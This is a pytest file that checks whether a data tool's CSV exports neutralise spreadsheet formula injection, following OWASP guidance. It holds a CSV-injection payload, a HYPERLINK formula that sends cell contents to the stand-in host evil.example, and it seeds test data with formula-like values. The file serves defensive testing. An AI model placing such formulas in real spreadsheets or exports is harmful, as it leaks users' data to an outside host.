"""CSV formula injection: every CSV claimtrack writes neutralises text cells that a spreadsheet
would run as formulas (OWASP), in the report, `export --format csv` and `sql --format csv`."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import duckdb
import pytest
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.csv_safe import FORMULA_START, neutralise, safe_cell
from pipeline.report import load_reports, render_csv
from pipeline.store import Store
from tests.conftest import DemoRun

runner = CliRunner()
PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("start", FORMULA_START)
def test_neutralise_every_formula_start(start: str) -> None:
    assert neutralise(start + "1+1") == "'" + start + "1+1"


def test_plain_text_and_numbers_unchanged() -> None:
    assert neutralise("The outage lasted 13 hours.") == "The outage lasted 13 hours."
    assert safe_cell(-2) == -2 and safe_cell(None) is None and safe_cell(0.5) == 0.5


@pytest.fixture
def poisoned(demo_run: DemoRun, tmp_path: Path) -> Path:
    """A copy of the demo store whose claim texts start like formulas."""
    db = tmp_path / "poisoned.duckdb"
    shutil.copy(demo_run.db_path, db)
    con = duckdb.connect(str(db))
    con.execute("UPDATE claims SET claim_text = ? || claim_text", ["=1+1 "])
    con.execute("UPDATE claims SET speaker_name = ? WHERE speaker_name IS NOT NULL", ["@SUM(A1)"])
    con.close()
    return db


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_safe(cells: list[str]) -> None:
    assert cells and not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    # negative numbers stay numbers; only text is prefixed
    assert not [c for c in cells if c.startswith("-") and not c[1:].replace(".", "").isdigit()]


def test_report_csv_is_neutralised(poisoned: Path) -> None:
    with Store.open(poisoned, read_only=True) as store:
        text = render_csv(load_reports(store))
    cells = _cells(text)
    _assert_safe(cells)
    assert any(c.startswith("'=1+1 ") for c in cells)


def test_sql_csv_is_neutralised(poisoned: Path) -> None:
    query = "SELECT ? AS a, '-cmd' AS b, -2 AS n, ['=x'] AS l, claim_text FROM claims LIMIT 3"
    result = runner.invoke(
        app,
        ["sql", query.replace("?", "'" + PAYLOAD.replace("'", "''") + "'"), "--db", str(poisoned),
         "--live", "--format", "csv"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows[0]["a"] == "'" + PAYLOAD and rows[0]["b"] == "'-cmd" and rows[0]["n"] == "-2"
    assert rows[0]["claim_text"].startswith("'=1+1 ")
    _assert_safe(_cells(result.stdout))


def test_export_csv_is_neutralised(poisoned: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    result = runner.invoke(
        app, ["export", "--db", str(poisoned), "--format", "csv", "--output", str(out)]
    )
    assert result.exit_code == 0, result.output
    claims = (out / "claims.csv").read_text("utf-8")
    _assert_safe(_cells(claims))
    assert "'=1+1 " in claims and "'@SUM(A1)" in claims
    # parquet keeps the text as it is: only CSV is for spreadsheets
    runner.invoke(app, ["export", "--db", str(poisoned), "--output", str(out)])
    con = duckdb.connect()
    texts = con.execute("SELECT claim_text FROM read_parquet(?)", [str(out / "claims.parquet")])
    assert all(t.startswith("=1+1 ") for (t,) in texts.fetchall())
